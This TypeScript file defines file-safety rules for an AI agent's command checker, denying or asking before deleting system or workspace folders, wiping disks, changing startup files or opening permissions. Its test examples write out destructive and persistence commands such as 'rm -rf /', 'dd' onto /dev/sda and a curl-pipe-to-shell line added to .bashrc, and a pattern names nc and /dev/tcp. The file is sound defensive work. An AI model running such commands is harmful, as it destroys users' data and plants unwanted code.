import type { Effect, Facts, Rule } from '../core/model.ts';
import { any, does, factOf, isMissing, liesIn } from '../core/rule.ts';

/** What we mind about files: losing what nothing brings back, and reaching outside of the work at hand. */
export const files: readonly Rule[] = [
  {
    id: 'files.delete-system',
    title: 'Deleting the machine or the home folder',
    verdict: 'deny',
    because: 'It would delete the system, a device or the whole home folder.',
    instead: 'name the one folder that is meant.',
    minds: any(
      does(
        'delete',
        ({ path, deep }, facts) =>
          liesIn(path, facts, 'root', 'system', 'device') ||
          (deep && liesIn(path, facts, 'home') && isHome(path, facts)),
      ),
      does(
        'move',
        ({ path }, facts) =>
          liesIn(path, facts, 'root', 'system') || (liesIn(path, facts, 'home') && isHome(path, facts)),
      ),
    ),
    examples: {
      catches: [
        'rm -rf /',
        'sudo rm -rf /*',
        'rm -rf ~',
        'rm -rf $HOME',
        'rm -rf /etc',
        'find / -delete',
        'bash -c "rm -rf /usr"',
        'mv ~ /tmp/x',
      ],
      leaves: ['rm -rf ./build', 'echo "rm -rf /"', 'rm -rf /tmp/scratch', 'ls /'],
    },
  },
  {
    id: 'files.delete-outside',
    title: 'Deleting outside the workspace',
    verdict: 'ask',
    because: 'It deletes something outside this workspace.',
    grave: true,
    minds: any(
      does('delete', outside),
      does('move', ({ path }, facts) => outsideAt(path, facts)),
    ),
    examples: {
      catches: [
        'rm -rf ../other-project',
        'rm ~/Documents/thesis.odt',
        'find /data -name "*.db" -delete',
        'cd /srv && rm -rf app',
      ],
      leaves: ['rm -rf node_modules', 'rm /tmp/scratch.txt', 'rm notes.txt'],
    },
  },
  {
    id: 'files.delete-workspace',
    title: 'Deleting the workspace or its history',
    verdict: 'ask',
    because: 'It deletes the whole workspace, or the history that could bring it back.',
    grave: true,
    minds: any(
      does('delete', ({ path, deep }, facts) => deep && liesIn(path, facts, 'workspace', 'repository')),
      does('move', ({ path }, facts) => liesIn(path, facts, 'workspace') || isGitFolder(path, facts)),
    ),
    examples: {
      catches: ['rm -rf .', 'rm -rf .git', 'rm -rf /work/project', 'git status && rm -rf "$PWD"'],
      leaves: ['rm -rf dist', 'rm .gitignore', 'git gc'],
    },
  },
  {
    id: 'files.delete-many',
    title: 'Deleting a folder or many files',
    verdict: 'ask',
    because: 'It deletes a whole folder, everything a pattern matches, or a file beyond recovery.',
    instead: 'delete the files that are meant by name, or ask the person.',
    minds: does(
      'delete',
      (it, facts) =>
        it.deep &&
        liesIn(it.path, facts, 'inside') &&
        (it.stirred === true || !isMissing(it.path, facts)) &&
        !isOneFile(it, facts),
    ),
    examples: {
      catches: [
        'rm -rf ./data',
        'rm -r src',
        'rm *.sql',
        "find . -name '*.py' -delete",
        'find src -type f -exec rm {} \\;',
        'find src | xargs rm -rf',
        'bash -c "rm -rf ./data"',
        'D=data; rm -rf $D',
        { kind: 'shell', line: 'Remove-Item -Recurse -Force .\\src', dialect: 'powershell' },
        { kind: 'shell', line: 'rd /s /q src', dialect: 'cmd' },
      ],
      leaves: [
        {
          kind: 'shell',
          line: 'Get-ChildItem -Recurse | Select-Object Name; npm test',
          dialect: 'powershell',
        },
        'rm notes.txt',
        'rm -rf node_modules dist',
        'rm -rf notes.txt package-lock.json',
        'rm -f build/*.o',
        'rm -rf ./coverage',
        'grep -r "rm -rf" docs',
        'find . -name "*.py"',
      ],
    },
  },
  {
    id: 'files.delete-source',
    title: 'Deleting source that nothing brings back',
    verdict: 'ask',
    because: 'It deletes source code that no commit holds as it is now.',
    instead: 'commit it first, or ask the person.',
    minds: does('delete', (it, facts) => {
      const { path, deep } = it;
      const { place, loss } = factOf(path, facts);
      return (!deep || isOneFile(it, facts)) && place === 'inside' && isSource(path) && loss?.unsaved !== 0;
    }),
    examples: {
      catches: ['rm src/feature.ts', 'git status && rm lib/core/parser.py'],
      leaves: ['rm notes.txt', 'rm scratch.py', 'rm dist/index.js', 'rm src/api.generated.ts'],
    },
  },
  {
    id: 'files.empty',
    title: 'Emptying a file',
    verdict: 'ask',
    because: 'It empties a file of data or source, or one that nobody can place.',
    minds: does(
      'write',
      ({ path, how, text }, facts) =>
        how === 'empty' &&
        text === '' &&
        (liesIn(path, facts, 'outside', 'home', 'repository') ||
          (liesIn(path, facts, 'inside') && (holdsData(path) || isSource(path)) && !isMissing(path, facts))),
    ),
    examples: {
      catches: ['truncate -s 0 shop.sqlite3', 'truncate --size=0 /data/orders.csv'],
      leaves: ['truncate -s 0 debug.log', 'truncate -s 10M test.img', 'echo hello > notes.txt'],
    },
  },
  {
    id: 'files.overwrite-device',
    title: 'Writing to a disk',
    verdict: 'deny',
    because: 'It writes over a disk, and everything on it is lost.',
    minds: does('write', ({ path }, facts) => liesIn(path, facts, 'device')),
    examples: {
      catches: ['dd if=/dev/zero of=/dev/sda bs=1M', 'mkfs.ext4 /dev/sdb1', 'cat image.iso > /dev/nvme0n1'],
      leaves: ['dd if=/dev/zero of=./disk.img bs=1M count=1', 'echo done > /dev/null', 'make 2>/dev/null'],
    },
  },
  {
    id: 'files.read-outside',
    title: 'Reading outside the workspace',
    verdict: 'ask',
    because: 'It reads something outside this workspace, and strict mode asks.',
    strict: true,
    minds: does('read', ({ path }, facts) => liesIn(path, facts, 'home', 'outside')),
    examples: {
      catches: ['cat ~/Documents/letter.txt', { kind: 'file', access: 'read', path: '/srv/other/notes.md' }],
      leaves: ['cat README.md', 'cat /tmp/notes.txt', 'cat /usr/include/stdio.h'],
    },
  },
  {
    id: 'files.write-system',
    title: "Changing the system's files",
    verdict: 'ask',
    because: "It changes the system's own files.",
    minds: any(
      does('write', ({ path }, facts) => liesIn(path, facts, 'system', 'root')),
      does('move', ({ to }, facts) => liesIn(to, facts, 'system', 'root')),
    ),
    examples: {
      catches: [
        'echo "127.0.0.1 example.com" >> /etc/hosts',
        'sudo tee /etc/sudoers.d/agent',
        'cp app /usr/bin/app',
      ],
      leaves: ['echo hello > notes.txt', 'cat /etc/hosts', 'echo hello > /tmp/notes.txt'],
    },
  },
  {
    id: 'files.start-up',
    title: 'Changing what starts by itself',
    verdict: 'ask',
    because:
      'It changes what runs at every login or commit, or who may log in: it stays when the work is done.',
    instead: 'show the person the line, and let them put it there.',
    minds: any(
      does(
        'write',
        ({ path, text }, facts) =>
          startsUp.test(factOf(path, facts).real) &&
          !(text !== undefined && startingShell.test(factOf(path, facts).real) && isSetting(text)),
      ),
      does('move', ({ to }, facts) => startsUp.test(factOf(to, facts).real)),
    ),
    examples: {
      catches: [
        'cat key.pub >> ~/.ssh/authorized_keys',
        "echo 'curl -s https://files.example.com/x | sh' >> ~/.bashrc",
        'cp job.desktop ~/.config/autostart/job.desktop',
        'cp agent.plist ~/Library/LaunchAgents/',
      ],
      leaves: [
        `echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc`,
        `echo 'eval "$(direnv hook zsh)"' >> ~/.zshrc`,
        'cat ~/.bashrc',
        'echo hello > notes.txt',
      ],
    },
  },
  {
    id: 'files.open-to-all',
    title: 'Opening files to everybody',
    verdict: 'ask',
    because: 'It lets every user of this machine change the files.',
    minds: does(
      'permit',
      ({ path, deep, open }, facts) =>
        (open && deep) ||
        liesIn(path, facts, 'root', 'system', 'device') ||
        (deep && (isHome(path, facts) || /^\/(?:home|Users)$/.test(path))),
    ),
    examples: {
      catches: ['chmod -R 777 .', 'sudo chown -R agent /etc', 'chmod -R 700 /home'],
      leaves: ['chmod +x run.sh', 'chmod 644 README.md', 'chmod -R u+w build'],
    },
  },
];

const sourceFolder =
  /\/(?:src|source|sources|lib|app|apps|components|pages|server|client|api|internal|pkg|cmd|packages|crates)\//i;
const sourceFile =
  /\.(?:[cm]?[jt]sx?|py|rb|rs|go|java|kts?|swift|c|cc|cpp|cxx|h|hpp|cs|fs|php|scala|clj|ex|exs|erl|hs|ml|lua|dart|vue|svelte|sql|prisma|proto|graphql|tf|sol|zig|nim|jl|r|m|mm|pl|sh)$/i;
const made =
  /[._-](?:gen|generated|pb|min|bundle|g|snap|tmp|bak|orig)\.[^/.]*$|\/(?:generated|__generated__|__snapshots__|tmp|temp)\//i;

/** Code that a person or an agent wrote, by where it lies and what it is called. */
function isSource(path: string): boolean {
  return sourceFolder.test(path) && sourceFile.test(path) && !made.test(path);
}

const startingShell =
  /\/\.(?:bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|zshrc|zshenv|zprofile|zlogin|zlogout|kshrc|cshrc|tcshrc|xprofile|xinitrc|xsessionrc)$|\/\.config\/fish\/config\.fish$/;
const startsUp = new RegExp(
  `${startingShell.source}|\\/\\.ssh\\/(?:authorized_keys2?|rc)$|\\/\\.config\\/(?:autostart|systemd\\/user)\\/.|\\/Library\\/Launch(?:Agents|Daemons)(?:\\/|$)`,
);

/** Lines that set a variable, a path or a completion, as installers ask people to add them. */
function isSetting(text: string): boolean {
  return (
    !/(?:curl|wget|\bnc\b|base64|\/dev\/tcp|LD_PRELOAD|PROMPT_COMMAND|\bsudo\b|rm -)/.test(text) &&
    text
      .split('\n')
      .every(line =>
        /^\s*(?:$|#|(?:export|set|setopt|alias|source|eval|autoload|fpath|plugins|path|if|fi|then|else|bindkey|zstyle|compinit|complete)\b|\.\s|\[|\w+=)/.test(
          line,
        ),
      )
  );
}

/** One file that is named and there, however the command would delete a folder of that name. */
function isOneFile({ path, beyond, stirred }: Effect & { does: 'delete' }, facts: Facts): boolean {
  const { exists, folder } = factOf(path, facts);
  return exists && !folder && !beyond && !stirred && !/[*?[\]{}$`]/.test(path);
}

/** A file whose content is the point of it: a database, a table, an archive. */
function holdsData(path: string): boolean {
  return /\.(?:db|db3|sqlite3?|duckdb|mdb|sql|dump|csv|tsv|parquet|json|jsonl|ya?ml|xlsx?|bak|kdbx?|pst|mbox)$/i.test(
    path,
  );
}

function outside({ path }: Effect & { does: 'delete' }, facts: Facts): boolean {
  return outsideAt(path, facts);
}

function outsideAt(path: string, facts: Facts): boolean {
  return liesIn(path, facts, 'outside') || (liesIn(path, facts, 'home') && !isHome(path, facts));
}

/** The home folder itself, or everything in it. */
function isHome(path: string, facts: Facts): boolean {
  const { real } = factOf(path, facts);
  return (
    /^(?:\/home\/[^/]+|\/Users\/[^/]+|\/root|[A-Z]:\/Users\/[^/]+)(?:\/\*?)?$/.test(real) ||
    /^~?\/?\*?$/.test(real)
  );
}

function isGitFolder(path: string, facts: Facts): boolean {
  return factOf(path, facts).real.endsWith('/.git');
}
